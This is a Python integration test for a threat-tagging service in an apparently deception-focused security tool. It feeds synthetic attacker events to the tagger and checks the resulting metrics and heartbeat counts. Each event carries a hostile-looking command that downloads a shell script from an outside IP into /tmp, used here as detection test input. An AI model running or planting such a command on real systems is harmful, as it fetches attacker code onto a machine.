# SPDX-License-Identifier: AGPL-3.0-or-later
"""What a tagger tells of itself: on its metrics page, and in its heart-beats."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import nats
import pytest

from decnet_ttp.rule_store import app as rule_store
from decnet_ttp.runtime.clients import call, open_channel
from decnet_ttp.runtime.config import Settings
from decnet_ttp.tagger import app as tagger
from decnet_ttp.v1 import event_pb2, scope_pb2, tagger_service_pb2, tagger_service_pb2_grpc
from runtime.pages import Page, read_page
from runtime.seen import MARK, beat_with, logged, running


def _events(count: int) -> tagger_service_pb2.TagEventsRequest:
    anchor = scope_pb2.Anchor(attacker_uuid="00000000-0000-0000-0000-00000000000a")
    group = event_pb2.EventGroup(origin_id=MARK, anchor=anchor)
    for number in range(count):
        event = group.events.add(source_kind="command", source_id=f"{MARK}-{number}")
        event.command.command_text = f"wget http://198.51.100.7/{MARK}.sh -O /tmp/x"
    return tagger_service_pb2.TagEventsRequest(groups=[group])


async def test_batches_are_counted_and_a_request_stops_the_tagger(
    nats_url: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("INFO")
    own = Settings(
        nats_url=nats_url,
        listen=f"unix:{tmp_path}/t.sock",
        rule_store=f"unix:{tmp_path}/r.sock",
        metrics_listen="127.0.0.1:0",
        heartbeat_s=0.1,
        attack_cache_dir=tmp_path / "no-cache",
        grace_s=5.0,
    )
    store = replace(own, listen=own.rule_store)
    client = await nats.connect(nats_url)
    try:
        async with (
            running(client, "rule-store", rule_store.run(store), caplog),
            running(client, "tagger", tagger.run(own, ["rule_engine"]), caplog) as address,
            open_channel(own.listen, own) as channel,
        ):
            stub = tagger_service_pb2_grpc.TaggerServiceStub(channel)
            answers = [await call(stub.TagEvents, _events(50), timeout_s=30) for _ in range(2)]
            page = await read_page(address)
            tags = [tag for answer in answers for group in answer.groups for tag in group.tags]
            beat = await beat_with(client, "tagger", "tags", len(tags))
    finally:
        await client.close()
    _check(page, [tag.rule_id for tag in tags])
    assert (beat["events"], beat["failures"], beat["ready"]) == (100, 0, True)
    assert 0 < beat["last_event_ts"] <= beat["ts"]
    assert MARK not in f"{page}{beat}{logged(caplog)}"


def _check(page: Page, fired: list[str]) -> None:
    assert len(fired) >= 100
    assert page["decnet_ttp_events_evaluated_total"] == {("rule_engine", "command"): 100}
    assert page["decnet_ttp_evaluation_seconds_count"] == {(): 2}
    made = {key: n for key, n in page["decnet_ttp_rule_tags_total"].items() if n}
    assert made == {(rule_id,): fired.count(rule_id) for rule_id in fired}
    for rule_id in fired:
        assert page["decnet_ttp_rule_matches_total"][rule_id,] == 100
        assert page["decnet_ttp_rule_evaluations_total"][rule_id,] == 100
    assert page["decnet_ttp_tags_dropped_total"].keys() == {("rule_disabled",)}
    assert page["decnet_ttp_rules_in_force"][()] > 10
